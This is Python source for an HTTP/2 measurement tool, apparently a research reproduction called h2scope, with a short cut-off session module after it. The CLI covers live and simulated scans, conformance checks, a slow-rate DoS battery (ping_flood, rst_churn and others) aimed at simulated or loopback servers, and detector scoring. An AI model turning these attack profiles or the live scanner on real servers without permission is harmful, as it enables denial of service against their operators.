        probes = store.trace_probes(campaign, args.domain)
        if not probes:
            print(
                f"no traces stored for {args.domain!r} in campaign "
                f"{campaign!r}",
                file=sys.stderr,
            )
            return 1
        if args.probe is not None:
            if args.probe not in probes:
                print(
                    f"no {args.probe!r} trace for {args.domain!r} "
                    f"(stored: {', '.join(probes)})",
                    file=sys.stderr,
                )
                return 1
            probes = [args.probe]
        for probe in probes:
            timeline = store.load_trace(campaign, args.domain, probe)
            print(f"== {args.domain} :: {probe} ({len(timeline)} frames)")
            output = render_trace(timeline)
            if output:
                print(output, end="")
            else:
                print("(no frames received)")
    return 0


def _resume_command(args: argparse.Namespace) -> str:
    """The exact command line that resumes this campaign."""
    parts = [
        f"h2scope --seed {args.seed} scan",
        f"--experiment {args.experiment}",
        f"-n {args.n_sites}",
        f"--db {args.db}",
    ]
    if args.fault_plan is not None:
        parts.append(f"--fault-plan '{args.fault_plan}'")
    if args.timeout is not None:
        parts.append(f"--timeout {args.timeout}")
    if args.retries is not None:
        parts.append(f"--retries {args.retries}")
    if args.checkpoint_every != 25:
        parts.append(f"--checkpoint-every {args.checkpoint_every}")
    if args.workers != 1:
        # Not part of the manifest: resuming with a different worker
        # count is safe and produces byte-identical results.
        parts.append(f"--workers {args.workers}")
    if args.concurrency != 8:
        # Same: in-flight sessions per worker don't affect the bytes.
        parts.append(f"--concurrency {args.concurrency}")
    parts.append("--resume")
    return " ".join(parts)


def _store_campaign(
    args: argparse.Namespace,
    campaign: str,
    include,
    fault_plan=None,
    resilience=None,
) -> int:
    """Run a journaled, checkpointed campaign scan into ``args.db``.

    SIGINT (Ctrl-C) flushes the journal and prints the exact resume
    command; resuming against a mismatched configuration or a corrupt
    database is a usage error, never a traceback.
    """
    import signal
    import sqlite3

    from repro.population import PopulationConfig, make_population
    from repro.scope.campaign import (
        CampaignError,
        CampaignInterrupted,
        ManifestMismatch,
    )
    from repro.scope.scanner import run_campaign
    from repro.scope.storage import ReportStore, SchemaVersionError

    sites = make_population(
        PopulationConfig(
            experiment=args.experiment, n_sites=args.n_sites, seed=args.seed
        )
    )
    try:
        store = ReportStore(args.db)
    except (SchemaVersionError, sqlite3.DatabaseError) as exc:
        print(f"cannot open {args.db}: {exc}", file=sys.stderr)
        return 2
    try:  # make sure Ctrl-C raises KeyboardInterrupt even if inherited odd
        previous_handler = signal.signal(
            signal.SIGINT, signal.default_int_handler
        )
    except ValueError:  # not the main thread (tests, embedding)
        previous_handler = None
    try:
        with store:
            try:
                result = run_campaign(
                    sites,
                    store,
                    campaign,
                    include=include,
                    seed=args.seed,
                    fault_plan=fault_plan,
                    resilience=resilience,
                    resume=args.resume,
                    checkpoint_every=args.checkpoint_every,
                    workers=args.workers,
                    concurrency=args.concurrency,
                )
            except CampaignInterrupted as interrupt:
                print(
                    f"\ninterrupted: journal flushed "
                    f"({interrupt.flushed} sites scanned this run, "
                    f"{interrupt.remaining} remaining)"
                )
                print(f"resume with: {_resume_command(args)}")
                return 130
            except ManifestMismatch as exc:
                print(f"cannot resume {campaign!r}: {exc}", file=sys.stderr)
                return 2
            except CampaignError as exc:
                print(str(exc), file=sys.stderr)
                return 2
            counts = result.counts
            print(
                f"stored {store.count(campaign)} reports for {campaign} "
                f"in {args.db}"
            )
            print(
                f"campaign {campaign}: {counts['done']} done, "
                f"{counts['failed']} failed, "
                f"{counts['quarantined']} quarantined, "
                f"{counts['pending']} pending "
                f"({result.scanned} scanned this run, "
                f"{result.skipped} already journaled; "
                f"{result.virtual_seconds:.1f} virtual seconds)"
            )
            if counts["failed"] or counts["pending"]:
                print(f"finish with: {_resume_command(args)}")
        return 0
    finally:
        if previous_handler is not None:
            signal.signal(signal.SIGINT, previous_handler)


def _live_resume_command(args: argparse.Namespace) -> str:
    """The exact command line that resumes this live campaign."""
    parts = [
        f"h2scope --seed {args.seed} scan",
        "--backend socket",
        f"--targets {args.targets}",
        f"--db {args.db}",
        f"--campaign {args.campaign}",
    ]
    if args.timeout is not None:
        parts.append(f"--timeout {args.timeout}")
    if args.retries is not None:
        parts.append(f"--retries {args.retries}")
    if args.checkpoint_every != 25:
        parts.append(f"--checkpoint-every {args.checkpoint_every}")
    # Pool/politeness knobs are not part of the manifest: a campaign
    # may be resumed gentler or more aggressive than it started.
    if args.concurrency != 8:
        parts.append(f"--concurrency {args.concurrency}")
    if args.per_host_gap:
        parts.append(f"--per-host-gap {args.per_host_gap}")
    if args.rate is not None:
        parts.append(f"--rate {args.rate}")
    if args.timeout_scale != 1.0:
        parts.append(f"--timeout-scale {args.timeout_scale}")
    parts.append("--resume")
    return " ".join(parts)


def _cmd_scan_live(args: argparse.Namespace) -> int:
    """Live-mode scan: real TCP to the domains in ``--targets``.

    Runs the hardened pipeline from :mod:`repro.scope.live`: DNS
    pre-stage (unresolvable sites quarantined without a connect), a
    bounded pool of ``--concurrency`` socket probe sessions, per-host
    politeness (``--per-host-gap``) and a global contact-rate budget
    (``--rate``/``--burst``) — journaled and resumable exactly like a
    simulated campaign.
    """
    import signal
    import sqlite3

    from repro.scope.campaign import (
        CampaignError,
        CampaignInterrupted,
        ManifestMismatch,
    )
    from repro.scope.live import LiveConfig, run_live_campaign
    from repro.scope.resilience import ResilienceConfig
    from repro.scope.storage import ReportStore, SchemaVersionError

    if not args.db:
        print("--backend socket requires --db (the journal)", file=sys.stderr)
        return 2
    if args.targets is None:
        print(
            "--backend socket requires --targets FILE (one domain per line)",
            file=sys.stderr,
        )
        return 2
    try:
        with open(args.targets) as handle:
            domains = [
                line.strip()
                for line in handle
                if line.strip() and not line.lstrip().startswith("#")
            ]
    except OSError as exc:
        print(f"cannot read --targets: {exc}", file=sys.stderr)
        return 2
    if not domains:
        print(f"{args.targets}: no domains", file=sys.stderr)
        return 2

    resilience = ResilienceConfig(
        timeout=20.0 if args.timeout is None else args.timeout,
        retries=2 if args.retries is None else args.retries,
    )
    config = LiveConfig(
        concurrency=args.concurrency,
        per_host_gap=args.per_host_gap,
        rate=args.rate,
        burst=args.burst,
        timeout_scale=args.timeout_scale,
    )
    try:
        store = ReportStore(args.db)
    except (SchemaVersionError, sqlite3.DatabaseError) as exc:
        print(f"cannot open {args.db}: {exc}", file=sys.stderr)
        return 2
    try:
        previous_handler = signal.signal(
            signal.SIGINT, signal.default_int_handler
        )
    except ValueError:  # not the main thread (tests, embedding)
        previous_handler = None
    try:
        with store:
            try:
                result = run_live_campaign(
                    domains,
                    store,
                    args.campaign,
                    seed=args.seed,
                    resilience=resilience,
                    resume=args.resume,
                    checkpoint_every=args.checkpoint_every,
                    config=config,
                )
            except CampaignInterrupted as interrupt:
                print(
                    f"\ninterrupted: journal flushed "
                    f"({interrupt.flushed} sites scanned this run, "
                    f"{interrupt.remaining} remaining)"
                )
                print(f"resume with: {_live_resume_command(args)}")
                return 130
            except ManifestMismatch as exc:
                print(
                    f"cannot resume {args.campaign!r}: {exc}", file=sys.stderr
                )
                return 2
            except CampaignError as exc:
                print(str(exc), file=sys.stderr)
                return 2
            counts = result.counts
            from repro.scope.campaign import CampaignJournal

            dns_failures = CampaignJournal(store).dns_failures(args.campaign)
            print(
                f"campaign {args.campaign}: {counts['done']} done, "
                f"{counts['failed']} failed, "
                f"{counts['quarantined']} quarantined "
                f"({dns_failures} dns), "
                f"{counts['pending']} pending "
                f"({result.scanned} scanned this run, "
                f"{result.skipped} already journaled; "
                f"{result.virtual_seconds:.1f} wall seconds of scan time)"
            )
            if counts["failed"] or counts["pending"]:
                print(f"finish with: {_live_resume_command(args)}")
        return 0
    finally:
        if previous_handler is not None:
            signal.signal(signal.SIGINT, previous_handler)


def _cmd_scan(args: argparse.Namespace) -> int:
    if args.resume and not args.db:
        print("--resume requires --db (the journaled database)", file=sys.stderr)
        return 2
    if args.backend == "socket":
        return _cmd_scan_live(args)
    if args.targets is not None:
        print("--targets requires --backend socket", file=sys.stderr)
        return 2
    if (
        args.fault_plan is not None
        or args.timeout is not None
        or args.retries is not None
    ):
        return _cmd_scan_resilient(args)

    if not args.resume:
        from repro.experiments import (
            adoption,
            flowcontrol_scan,
            priority_scan,
            push_scan,
            settings_tables,
            table4,
        )

        for module in (
            adoption,
            table4,
            settings_tables,
            flowcontrol_scan,
            priority_scan,
            push_scan,
        ):
            result = module.run(
                experiment=args.experiment,
                n_sites=args.n_sites,
                seed=args.seed,
                workers=args.workers,
            )
            print(result.text)
            print("=" * 72)

    if args.db:
        from repro.scope.scanner import ALL_PROBES

        return _store_campaign(
            args, f"experiment-{args.experiment}", include=ALL_PROBES
        )
    return 0


def _cmd_scan_resilient(args: argparse.Namespace) -> int:
    """Chaos-mode scan: fault injection + deadline/retry execution.

    Triggered by any of ``--fault-plan`` / ``--timeout`` / ``--retries``;
    without ``--fault-plan`` this is the control condition (clean
    network, resilient execution).
    """
    from repro.experiments import fault_study
    from repro.net.faults import FaultPlan
    from repro.scope.resilience import ResilienceConfig

    plan = None
    if args.fault_plan is not None:
        try:  # surface spec/JSON mistakes as a usage error, not a traceback
            plan = FaultPlan.load(args.fault_plan, seed=args.seed)
        except ValueError as exc:
            print(f"bad --fault-plan: {exc}", file=sys.stderr)
            return 2

    timeout = 12.0 if args.timeout is None else args.timeout
    retries = 2 if args.retries is None else args.retries
    if not args.resume:
        result = fault_study.run(
            experiment=args.experiment,
            n_sites=args.n_sites,
            seed=args.seed,
            fault_spec=args.fault_plan,
            timeout=timeout,
            retries=retries,
            workers=args.workers,
        )
        print(result.text)
    if args.db:
        return _store_campaign(
            args,
            f"experiment-{args.experiment}-faults",
            include=fault_study.PROBES,
            fault_plan=plan,
            resilience=ResilienceConfig(timeout=timeout, retries=retries),
        )
    return 0


def _cmd_report(args: argparse.Namespace) -> int:
    """Summarize a stored scan database (the paper's 'further study')."""
    from repro.analysis.tables import format_table
    from repro.scope.storage import ReportStore

    with ReportStore(args.db) as store:
        campaigns = store.campaigns()
        if not campaigns:
            print(f"{args.db}: no campaigns stored")
            return 1
        for campaign in campaigns:
            total = store.count(campaign)
            responsive = store.count(campaign, headers_only=True)
            print(
                f"campaign {campaign}: {total} sites scanned, "
                f"{responsive} returned HEADERS"
            )
            counts = store.server_header_counts(campaign)
            rows = [[header, n] for header, n in list(counts.items())[:10]]
            print(format_table(["server", "sites"], rows))
            ratios = store.hpack_ratios(campaign)
            if ratios:
                below = sum(1 for r in ratios if r <= 0.3) / len(ratios)
                print(
                    f"HPACK ratios: {len(ratios)} measured, "
                    f"{below:.0%} at or below 0.3\n"
                )
    return 0


def _cmd_campaign_status(args: argparse.Namespace) -> int:
    """Summarize a journaled campaign database: manifest + status counts."""
    import sqlite3

    from repro.scope.campaign import CampaignJournal
    from repro.scope.storage import ReportStore, SchemaVersionError

    try:
        store = ReportStore(args.db)
    except (SchemaVersionError, sqlite3.DatabaseError) as exc:
        print(f"cannot open {args.db}: {exc}", file=sys.stderr)
        return 2
    with store:
        if args.verify:
            problems = store.verify()
            if problems:
                for problem in problems:
                    print(f"INTEGRITY: {problem}", file=sys.stderr)
                return 1
            print(f"{args.db}: integrity ok")
        journal = CampaignJournal(store)
        names = journal.campaigns()
        if args.campaign is not None:
            if args.campaign not in names:
                print(
                    f"no journaled campaign {args.campaign!r} in {args.db}",
                    file=sys.stderr,
                )
                return 2
            names = [args.campaign]
        if not names:
            print(f"{args.db}: no journaled campaigns")
            return 1
        for name in names:
            manifest = journal.manifest(name)
            counts = journal.counts(name)
            total = sum(counts.values())
            virtual = journal.virtual_seconds(name)
            dns_failures = journal.dns_failures(name)
            print(f"campaign {name}: {total} sites")
            print(
                f"  done {counts['done']}  failed {counts['failed']}  "
                f"quarantined {counts['quarantined']}  "
                f"pending {counts['pending']}"
            )
            if dns_failures:
                print(
                    f"  dns failures: {dns_failures} "
                    f"(unresolvable, quarantined without retries)"
                )
            print(
                f"  manifest: seed {manifest.seed}, "
                f"probes {','.join(manifest.probes)}, "
                f"population {manifest.population_size} sites "
                f"(hash {manifest.population_hash})"
            )
            if manifest.fault_spec is not None:
                print(f"  fault plan: {manifest.fault_spec}")
            if manifest.timeout is not None or manifest.retries is not None:
                print(
                    f"  resilience: timeout={manifest.timeout} "
                    f"retries={manifest.retries}"
                )
            print(f"  virtual time spent: {virtual:.1f}s")
            if counts["pending"] or counts["failed"]:
                print(
                    "  incomplete: rerun the original scan command with "
                    "--resume to finish"
                )
    return 0


def _cmd_conformance(args: argparse.Namespace) -> int:
    from repro.net.clock import Simulation
    from repro.net.transport import Network
    from repro.scope.conformance import run_conformance
    from repro.servers.site import Site, deploy_site
    from repro.servers.vendors import VENDOR_FACTORIES
    from repro.servers.website import testbed_website

    names = list(VENDOR_FACTORIES) if args.vendor == "all" else [args.vendor]
    unknown = [n for n in names if n not in VENDOR_FACTORIES]
    if unknown:
        print(f"unknown vendor(s): {', '.join(unknown)}", file=sys.stderr)
        return 2
    any_conformant = False
    for name in names:
        sim = Simulation()
        network = Network(sim, seed=args.seed)
        site = Site(
            domain=f"{name}.testbed",
            profile=VENDOR_FACTORIES[name](),
            website=testbed_website(),
        )
        deploy_site(network, site)
        report = run_conformance(
            network,
            site.domain,
            large_path="/large/0.bin",
            multiplex_paths=[f"/large/{i}.bin" for i in range(3)],
        )
        print(report.summary())
        any_conformant = any_conformant or report.fully_conformant
    return 0


EXPERIMENT_RUNNERS = {
    "table3": lambda args: __import__(
        "repro.experiments.table3", fromlist=["run"]
    ).run(seed=args.seed),
    "adoption": lambda args: __import__(
        "repro.experiments.adoption", fromlist=["run"]
    ).run(args.experiment, args.n_sites, args.seed),
    "table4": lambda args: __import__(
        "repro.experiments.table4", fromlist=["run"]
    ).run(args.experiment, args.n_sites, args.seed),
    "settings": lambda args: __import__(
        "repro.experiments.settings_tables", fromlist=["run"]
    ).run(args.experiment, args.n_sites, args.seed),
    "fig2": lambda args: __import__(
        "repro.experiments.fig2", fromlist=["run"]
    ).run(args.n_sites, args.seed),
    "flowcontrol": lambda args: __import__(
        "repro.experiments.flowcontrol_scan", fromlist=["run"]
    ).run(args.experiment, args.n_sites, args.seed),
    "priority": lambda args: __import__(
        "repro.experiments.priority_scan", fromlist=["run"]
    ).run(args.experiment, args.n_sites, args.seed),
    "push": lambda args: __import__(
        "repro.experiments.push_scan", fromlist=["run"]
    ).run(args.experiment, args.n_sites, args.seed),
    "fig3": lambda args: __import__(
        "repro.experiments.fig3", fromlist=["run"]
    ).run(visits=args.visits, seed=args.seed),
    "fig45": lambda args: __import__(
        "repro.experiments.fig45", fromlist=["run"]
    ).run(args.experiment, args.n_sites, args.seed),
    "fig6": lambda args: __import__(
        "repro.experiments.fig6", fromlist=["run"]
    ).run(seed=args.seed),
    "attacks": lambda args: __import__(
        "repro.experiments.attacks_study", fromlist=["run"]
    ).run(seed=args.seed),
    "lossy": lambda args: __import__(
        "repro.experiments.lossy_ablation", fromlist=["run"]
    ).run(seed=args.seed),
    "dynamic-push": lambda args: __import__(
        "repro.experiments.dynamic_push", fromlist=["run"]
    ).run(seed=args.seed),
    "longitudinal": lambda args: __import__(
        "repro.experiments.longitudinal", fromlist=["run"]
    ).run(n_sites=args.n_sites, seed=args.seed),
    "faults": lambda args: __import__(
        "repro.experiments.fault_study", fromlist=["run"]
    ).run(args.experiment, args.n_sites, args.seed),
}


def _cmd_experiment(args: argparse.Namespace) -> int:
    names = list(EXPERIMENT_RUNNERS) if args.name == "all" else [args.name]
    for name in names:
        if name not in EXPERIMENT_RUNNERS:
            print(
                f"unknown experiment {name!r}; choose from "
                f"{', '.join(EXPERIMENT_RUNNERS)} or 'all'",
                file=sys.stderr,
            )
            return 2
        result = EXPERIMENT_RUNNERS[name](args)
        print(result.text)
        print("=" * 72)
    return 0


def _cmd_attack(args: argparse.Namespace) -> int:
    """Run the slow-rate battery and print the survival matrix."""
    import json as _json

    from repro.attacks import ATTACK_PROFILES, BATTERY_PROFILES, run_battery
    from repro.servers.vendors import VENDOR_FACTORIES

    if args.profile != "all" and args.profile not in ATTACK_PROFILES:
        print(
            f"unknown attack profile {args.profile!r}; choose from "
            f"{', '.join(sorted(ATTACK_PROFILES))} or 'all'",
            file=sys.stderr,
        )
        return 2
    if args.vendor != "all" and args.vendor not in VENDOR_FACTORIES:
        print(
            f"unknown vendor {args.vendor!r}; choose from "
            f"{', '.join(VENDOR_FACTORIES)} or 'all'",
            file=sys.stderr,
        )
        return 2

    if args.profile in ATTACK_PROFILES and not ATTACK_PROFILES[args.profile].is_battery:
        # Legacy §VI resource study: run with its own defaults.
        result = ATTACK_PROFILES[args.profile].run(seed=args.seed)
        print(_json.dumps(result.row(), indent=2))
        return 0

    profiles = list(BATTERY_PROFILES) if args.profile == "all" else [args.profile]
    vendors = list(VENDOR_FACTORIES) if args.vendor == "all" else [args.vendor]
    matrix = run_battery(
        vendors=vendors,
        profiles=profiles,
        backend=args.backend,
        guards=args.guards,
        seed=args.seed,
        duration=args.duration,
        guard_scale=args.guard_scale,
        record_frames=args.db is not None,
    )
    if args.json:
        print(_json.dumps(matrix.to_json(), indent=2))
    else:
        print(matrix.render())
    if args.db is not None:
        from repro.scope.storage import ReportStore

        with ReportStore(args.db) as store:
            for result in matrix.results:
                store.save_timelines(
                    args.campaign,
                    f"{result.vendor}.{result.profile}",
                    result.timelines,
                )
        print(f"stored labelled timelines in {args.db} ({args.campaign})")
    return 0


def _cmd_detect(args: argparse.Namespace) -> int:
    """Score the real-time detector, or sweep stored timelines."""
    import json as _json

    from repro.analysis.detection import DetectorConfig, score_corpus

    config = DetectorConfig(stall_window=args.stall_window)
    if args.db is not None:
        from repro.scope.storage import ReportStore

        with ReportStore(args.db) as store:
            timelines = store.load_timelines(args.campaign)
        if not timelines:
            print(
                f"no stored connection timelines for campaign "
                f"{args.campaign!r} in {args.db}",
                file=sys.stderr,
            )
            return 2
    else:
        from repro.attacks.corpus import build_corpus

        vendors = None if args.vendor == "all" else [args.vendor]
        timelines = build_corpus(
            vendors=vendors, seed=args.seed, duration=args.duration
        )
    score = score_corpus(timelines, config)
    document = {"timelines": len(timelines), **score.to_json()}
    print(_json.dumps(document, indent=2))
    if args.out is not None:
        from pathlib import Path

        Path(args.out).write_text(_json.dumps(document, indent=2) + "\n")
        print(f"wrote {args.out}", file=sys.stderr)
    if score.precision < args.min_precision or score.recall < args.min_recall:
        print(
            f"detector below floor: precision {score.precision:.3f} "
            f"(floor {args.min_precision}) recall {score.recall:.3f} "
            f"(floor {args.min_recall})",
            file=sys.stderr,
        )
        return 1
    return 0


def build_parser() -> argparse.ArgumentParser:
    parser = argparse.ArgumentParser(
        prog="h2scope",
        description="H2Scope reproduction: probe simulated HTTP/2 servers "
        "and regenerate the paper's tables and figures.",
    )
    parser.add_argument("--seed", type=int, default=7, help="deterministic seed")
    sub = parser.add_subparsers(dest="command", required=True)

    testbed = sub.add_parser("testbed", help="Table III: six-vendor feature matrix")
    testbed.add_argument(
        "--backend",
        choices=("sim", "socket"),
        default="sim",
        help="probe inside the simulator (default) or over real loopback "
        "TCP sockets served by the bridge; cells must match either way",
    )
    testbed.set_defaults(func=_cmd_testbed)

    probe = sub.add_parser(
        "probe",
        help="probe one target over a chosen transport backend",
    )
    probe.add_argument("domain", help="domain to probe (SNI / Host header)")
    probe.add_argument(
        "--backend",
        choices=("sim", "socket"),
        default="sim",
        help="sim: deploy --vendor in a fresh simulation; socket: real "
        "TCP to --target (or the domain's real address)",
    )
    probe.add_argument(
        "--vendor",
        default=None,
        help="vendor profile for --backend sim "
        "(nginx, litespeed, h2o, nghttpd, tengine, apache)",
    )
    probe.add_argument(
        "--target",
        default=None,
        metavar="HOST:PORT",
        help="socket backend: address serving the TLS-side listener "
        "(defaults to the domain itself on port 443)",
    )
    probe.add_argument(
        "--clear-target",
        default=None,
        metavar="HOST:PORT",
        help="socket backend: cleartext listener for the h2c upgrade path",
    )
    probe.add_argument(
        "--include",
        default=DEFAULT_PROBE_INCLUDE,
        help=f"comma-separated probe list (default {DEFAULT_PROBE_INCLUDE})",
    )
    probe.add_argument(
        "--timeout-scale",
        type=float,
        default=0.15,
        help="socket backend: multiplier shrinking the simulation-tuned "
        "probe timeouts to wall-clock waits (default 0.15)",
    )
    probe.add_argument(
        "--db",
        default=None,
        help="store the report plus per-probe frame traces here "
        "(render them later with 'h2scope trace')",
    )
    probe.add_argument(
        "--campaign",
        default="probe",
        help="campaign name for --db rows (default 'probe')",
    )
    probe.set_defaults(func=_cmd_probe)

    trace = sub.add_parser(
        "trace",
        help="render stored per-frame timelines for one scanned site",
    )
    trace.add_argument("db", help="SQLite database written with traces")
    trace.add_argument("domain", help="site whose traces to render")
    trace.add_argument(
        "--campaign",
        default=None,
        help="campaign name (optional when the database holds exactly one)",
    )
    trace.add_argument(
        "--probe", default=None, help="render only this probe's timeline"
    )
    trace.set_defaults(func=_cmd_trace)

    scan = sub.add_parser("scan", help="population scan summaries (§V-B..F)")
    scan.add_argument("--experiment", type=int, choices=(1, 2), default=1)
    scan.add_argument("-n", "--n-sites", type=int, default=300)
    scan.add_argument(
        "--backend",
        choices=("sim", "socket"),
        default="sim",
        help="sim: generated population in per-site simulations "
        "(default); socket: live scan of --targets over real TCP with "
        "the bounded pool + politeness + DNS pipeline",
    )
    scan.add_argument(
        "--targets",
        default=None,
        metavar="FILE",
        help="socket backend: file of target domains, one per line "
        "('#' comments allowed)",
    )
    scan.add_argument(
        "--campaign",
        default="live",
        help="socket backend: campaign name for the journal "
        "(default 'live')",
    )
    scan.add_argument(
        "--concurrency",
        type=int,
        default=8,
        metavar="N",
        help="max in-flight probe sessions per process (default 8, "
        "ceiling 16384): the live pool size on the socket backend, the "
        "single-loop interleaving width per worker on the simulated "
        "backend (at most H2SCOPE_LANE_POOL lanes, default 64, are "
        "mid-scan at once); composes multiplicatively with --workers "
        "and never changes simulated-scan bytes",
    )
    scan.add_argument(
        "--per-host-gap",
        type=float,
        default=0.0,
        metavar="SECONDS",
        help="socket backend: minimum gap between TCP connects to the "
        "same host (contacts to one host never overlap either)",
    )
    scan.add_argument(
        "--rate",
        type=float,
        default=None,
        metavar="PER_SECOND",
        help="socket backend: global contact-rate budget (token bucket)",
    )
    scan.add_argument(
        "--burst",
        type=float,
        default=None,
        metavar="N",
        help="socket backend: token-bucket burst (default max(1, rate))",
    )
    scan.add_argument(
        "--timeout-scale",
        type=float,
        default=1.0,
        metavar="X",
        help="socket backend: multiplier shrinking simulation-tuned "
        "probe timeouts to wall-clock waits (default 1.0)",
    )
    scan.add_argument(
        "--db",
        default=None,
        help="also store full per-site reports into this SQLite database",
    )
    scan.add_argument(
        "--fault-plan",
        default=None,
        metavar="SPEC|FILE",
        help="chaos mode: inject faults from a spec string "
        "(e.g. 'refuse:0.1x2,stall(30):0.05,truncate(400)') or a JSON "
        "file; probes then run with deadlines + retry/backoff",
    )
    scan.add_argument(
        "--timeout",
        type=float,
        default=None,
        metavar="SECONDS",
        help="per-probe virtual-time budget (implies resilient mode)",
    )
    scan.add_argument(
        "--retries",
        type=int,
        default=None,
        metavar="N",
        help="retry budget for transient failures (implies resilient mode)",
    )
    scan.add_argument(
        "--resume",
        action="store_true",
        help="resume the journaled campaign in --db: skip completed sites, "
        "retry failed ones (refused if the configuration mismatches)",
    )
    scan.add_argument(
        "--checkpoint-every",
        type=int,
        default=25,
        metavar="N",
        help="flush reports + journal to --db every N sites (default 25)",
    )
    scan.add_argument(
        "--workers",
        type=int,
        default=1,
        metavar="N",
        help="shard the scan across N worker processes (results are "
        "byte-identical for any N; a campaign may be resumed with a "
        "different N)",
    )
    scan.set_defaults(func=_cmd_scan)

    report = sub.add_parser("report", help="summarize a stored scan database")
    report.add_argument("db", help="SQLite database written by 'scan --db'")
    report.set_defaults(func=_cmd_report)

    status = sub.add_parser(
        "campaign-status",
        aliases=["campaign_status"],
        help="journal summary for a campaign database: done/failed/"
        "quarantined/pending counts plus the recorded manifest",
    )
    status.add_argument("db", help="SQLite database written by 'scan --db'")
    status.add_argument(
        "--campaign", default=None, help="limit to one campaign by name"
    )
    status.add_argument(
        "--verify",
        action="store_true",
        help="also run the storage integrity check before summarizing",
    )
    status.set_defaults(func=_cmd_campaign_status)

    conformance = sub.add_parser(
        "conformance",
        help="h2spec-style RFC 7540 conformance report for one testbed vendor",
    )
    conformance.add_argument(
        "vendor",
        help="nginx, litespeed, h2o, nghttpd, tengine, apache, or 'all'",
    )
    conformance.set_defaults(func=_cmd_conformance)

    attack = sub.add_parser(
        "attack",
        help="run the slow-HTTP/2 DoS battery against the vendor engines",
    )
    attack.add_argument(
        "--profile",
        default="all",
        help="battery profile (slow_preface, slow_headers, zero_window_stall, "
        "ping_flood, settings_flood, rst_churn), a legacy study "
        "(slow_read, table_flood, priority_churn), or 'all' (battery)",
    )
    attack.add_argument(
        "--vendor",
        default="all",
        help="victim engine (nginx, litespeed, h2o, nghttpd, tengine, "
        "apache) or 'all'",
    )
    attack.add_argument(
        "--backend",
        choices=("sim", "loopback"),
        default="sim",
        help="sim: discrete-event engines, deterministic in --seed "
        "(default); loopback: the same engines behind real TCP sockets",
    )
    attack.add_argument(
        "--guards",
        choices=("off", "vendor"),
        default="off",
        help="abuse guards: off reproduces the exposed 2016 behaviour; "
        "vendor enables each engine's hardened defaults",
    )
    attack.add_argument(
        "--duration",
        type=float,
        default=16.0,
        help="attack window in backend seconds (default 16)",
    )
    attack.add_argument(
        "--guard-scale",
        type=float,
        default=1.0,
        help="scale factor on the vendor guard deadlines (loopback runs "
        "pay wall-clock seconds; 0.5 halves every deadline)",
    )
    attack.add_argument(
        "--json", action="store_true", help="emit the matrix as JSON"
    )
    attack.add_argument(
        "--db",
        default=None,
        help="record server-side frame timelines (labelled with the "
        "attack profile) into this database",
    )
    attack.add_argument(
        "--campaign",
        default="attack",
        help="campaign name for --db rows (default 'attack')",
    )
    attack.set_defaults(func=_cmd_attack)

    detect = sub.add_parser(
        "detect",
        help="score the real-time slow-rate detector on labelled traffic",
    )
    detect.add_argument(
        "--db",
        default=None,
        help="score stored labelled timelines from this database instead "
        "of generating a fresh corpus",
    )
    detect.add_argument(
        "--campaign",
        default="attack",
        help="campaign holding the stored timelines (default 'attack')",
    )
    detect.add_argument(
        "--vendor",
        default="all",
        help="corpus mode: limit to one vendor (default all six)",
    )
    detect.add_argument(
        "--duration",
        type=float,
        default=16.0,
        help="corpus mode: attack window per battery run (default 16)",
    )
    detect.add_argument(
        "--stall-window",
        type=float,
        default=10.0,
        help="detector rule: seconds a tiny-window connection may idle "
        "(must exceed the benign probe budget; default 10)",
    )
    detect.add_argument(
        "--out", default=None, help="also write the score document here"
    )
    detect.add_argument(
        "--min-precision",
        type=float,
        default=0.0,
        help="exit 1 if precision falls below this floor",
    )
    detect.add_argument(
        "--min-recall",
        type=float,
        default=0.0,
        help="exit 1 if recall falls below this floor",
    )
    detect.set_defaults(func=_cmd_detect)

    experiment = sub.add_parser("experiment", help="run one table/figure by name")
    experiment.add_argument("name", help="table3, adoption, table4, settings, "
                            "fig2, flowcontrol, priority, push, fig3, fig45, "
                            "fig6, faults, or 'all'")
    experiment.add_argument("--experiment", type=int, choices=(1, 2), default=1)
    experiment.add_argument("-n", "--n-sites", type=int, default=300)
    experiment.add_argument("--visits", type=int, default=10)
    experiment.set_defaults(func=_cmd_experiment)
    return parser


def main(argv: list[str] | None = None) -> int:
    args = build_parser().parse_args(argv)
    if getattr(args, "workers", None) is not None:
        from repro.scope.parallel import effective_workers

        capped = effective_workers(args.workers, warn=False)
        if capped != args.workers:
            print(
                f"warning: --workers {args.workers} exceeds the available "
                f"CPU count; using {capped} (oversubscribing a CPU-bound "
                f"scan only slows it down)",
                file=sys.stderr,
            )
            args.workers = capped
    return args.func(args)


if __name__ == "__main__":  # pragma: no cover
    raise SystemExit(main())
