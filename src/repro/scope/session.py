"""ProbeSession: the probe layer's handle on a transport backend.

Probes used to take the simulated ``Network`` directly; they now take a
:class:`ProbeSession`, which owns a
:class:`~repro.net.backend.TransportBackend` plus optional cross-probe
state (a :class:`~repro.scope.trace.TraceRecorder`).  The session is
the only object probes need: it creates clients, tells the time, and
answers auxiliary measurements like ICMP RTT.

:func:`as_session` keeps every public probe entry point backward
compatible — a plain ``Network`` (or bare backend) is wrapped on the
fly, so existing callers and tests keep working unchanged.
"""

from __future__ import annotations

from repro.net.backend import TransportBackend, as_backend
from repro.scope.client import ScopeClient
from repro.scope.trace import TraceRecorder


class ProbeSession:
    """One probing context over one transport backend."""

    def __init__(self, backend, trace: TraceRecorder | None = None):
        self.backend = as_backend(backend)
        self.trace = trace

    # -- client factory ---------------------------------------------------

    def client(self, domain: str, **kwargs) -> ScopeClient:
        """A new :class:`ScopeClient` for ``domain`` on this backend."""
        kwargs.setdefault("trace", self.trace)
        return ScopeClient(self.backend, domain, **kwargs)

    # -- clock ------------------------------------------------------------

    @property
    def now(self) -> float:
        return self.backend.now

    def sleep(self, seconds: float) -> None:
        """Let ``seconds`` probe-level seconds pass (backend-scaled)."""
        self.backend.sleep(self.backend.scale(seconds))

    # -- auxiliary measurements ------------------------------------------

    def icmp_rtt(self, domain: str, count: int = 1) -> float | None:
        """Average ICMP echo RTT to ``domain`` (None if unavailable)."""
        return self.backend.icmp_rtt(domain, count=count)

    # -- lifecycle --------------------------------------------------------

    def close(self) -> None:
        self.backend.close()

    def __enter__(self) -> "ProbeSession":
        return self

    def __exit__(self, *exc) -> None:
        self.close()


def as_session(target) -> ProbeSession:
    """Normalize a ProbeSession, TransportBackend or Network."""
    if isinstance(target, ProbeSession):
        return target
    if isinstance(target, TransportBackend):
        session = getattr(target, "_session_cache", None)
        if session is None:
            session = ProbeSession(target)
            target._session_cache = session
        return session
    # A simulated Network: cache the wrapper on the instance so every
    # probe in a scan shares one session (and one backend).
    backend = as_backend(target)
    session = getattr(backend, "_session_cache", None)
